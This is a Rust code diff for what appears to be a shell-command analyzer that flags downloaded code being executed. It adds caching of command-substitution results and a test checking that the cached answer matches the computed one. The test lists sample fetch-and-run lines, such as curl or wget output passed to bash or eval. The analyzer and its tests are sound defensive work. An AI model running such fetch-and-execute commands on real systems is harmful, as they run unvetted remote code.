@@ -398,10 +398,15 @@ fn executed_texts(cmd: &Command) -> Vec<&str> {
 }
 
 fn executed_substitutions(cmd: &Command) -> Vec<Command> {
-    executed_texts(cmd)
+    if cmd.memo.runs_no_substitution.get() == Some(&true) {
+        return Vec::new();
+    }
+    let found: Vec<Command> = executed_texts(cmd)
         .into_iter()
         .flat_map(substituted)
-        .collect()
+        .collect();
+    let _ = cmd.memo.runs_no_substitution.set(found.is_empty());
+    found
 }
 
 /// The downloads a command runs as code: fetchers piped into it (directly
@@ -654,6 +659,32 @@ fn download_then_run(analysis: &Analysis) -> Option<String> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn the_remembered_answer_is_the_computed_one() {
+        let lines = [
+            "bash -c \"$(curl -fsSL https://x.example/i.sh)\"",
+            "echo $(date) | sh",
+            "git status",
+            "sh -n -c \"$(curl x)\"",
+            "eval `wget -qO- x`",
+        ];
+        for line in lines {
+            for cmd in crate::shell::analyze(line).commands {
+                let plain: Vec<Command> = executed_texts(&cmd)
+                    .into_iter()
+                    .flat_map(substituted)
+                    .collect();
+                assert_eq!(executed_substitutions(&cmd), plain, "{line}");
+                assert_eq!(executed_substitutions(&cmd), plain, "{line}, asked again");
+                assert_eq!(
+                    executed_substitutions(&cmd.clone()),
+                    plain,
+                    "{line}, a copy"
+                );
+            }
+        }
+    }
 
     #[test]
     fn bodies() {
